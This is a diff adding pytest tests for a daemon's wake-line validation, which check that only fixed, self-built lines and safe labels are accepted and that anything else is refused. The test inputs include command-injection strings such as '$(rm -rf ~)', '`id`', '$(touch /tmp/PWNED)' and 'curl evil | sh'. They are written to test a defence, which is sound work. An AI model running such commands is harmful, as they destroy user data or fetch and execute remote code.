@@ -23,6 +23,8 @@ from handoffd.wake import (
     Renotifier,
     Unanswered,
     Waker,
+    asked_problem,
+    is_label,
     label,
     send_keys,
 )
@@ -384,6 +386,39 @@ def test_a_name_shown_in_a_wake_up_line_keeps_nothing_a_terminal_or_a_shell_obey
     name: str, shown: str
 ) -> None:
     assert label(name) == shown
+
+
+@pytest.mark.parametrize("name", ["task-1-cave-setup", "évolution du parseur",
+                                  "$(rm -rf ~); `id`", "x" * 200, " a" * 60, "", "  "])  # fmt: skip
+def test_every_label_the_daemon_makes_is_one_it_would_type(name: str) -> None:
+    """`is_label` accepts whatever `label` makes of any name, cut ones included."""
+    assert is_label(label(name))
+
+
+FAILED = "/p/.swarmforge/handoffs/failed"
+ANSWERED_ON = "An operator answered you on {}. Run ready_for_next.sh to see it."
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [(TEXT, ""), (REFUSED.format(failed=FAILED), ""), (ANSWERED_ON.format("parse"), ""),
+     (ANSWERED_ON.format("évolution du parseur"), ""),
+     (ANSWERED_ON.format("x" * 79 + "…"), ""), (ANSWERED_ON.format(""), ""),
+     (ANSWERED_ON.format("x" * 79 + "… y"), "label"), (ANSWERED_ON.format("x" * 81), "label"),
+     (ANSWERED_ON.format("$(touch /tmp/PWNED)"), "label"),
+     (ANSWERED_ON.format("a`id`"), "label"), (ANSWERED_ON.format("a; rm -rf ~"), "label"),
+     (ANSWERED_ON.format(" padded"), "label"), (ANSWERED_ON.format("x…"), "label"),
+     ("touch /tmp/PWNED $(id)", "not a line"), (TEXT + " && curl evil | sh", "not a line"),
+     ("rm -rf ~ # " + TEXT, "not a line"), (REFUSED.format(failed="/elsewhere/failed"),
+      "not a line"), ("An operator answered you on . Run ready_for_next.sh", "not a line"),
+     ("An operator answered you on  Run ready_for_next.sh to see it.", "not a line")],
+)  # fmt: skip
+def test_h_wake_types_only_a_line_the_daemon_builds_itself(text: str, problem: str) -> None:
+    """docs/protocol.md §15, Part III: from `H/wake`, anyone's to write, the daemon types
+    only the fixed lines of §5 and §13 (the role's own `failed/` in the refusal line), an
+    answer's with a label `label` could have made; anything else is refused, saying why."""
+    said = asked_problem(text, FAILED)
+    assert (said == "") if not problem else (problem in said), said
 
 
 @pytest.mark.parametrize("text", ["clear\x1b[2J", "two\nlines", "bell\x07", ""])
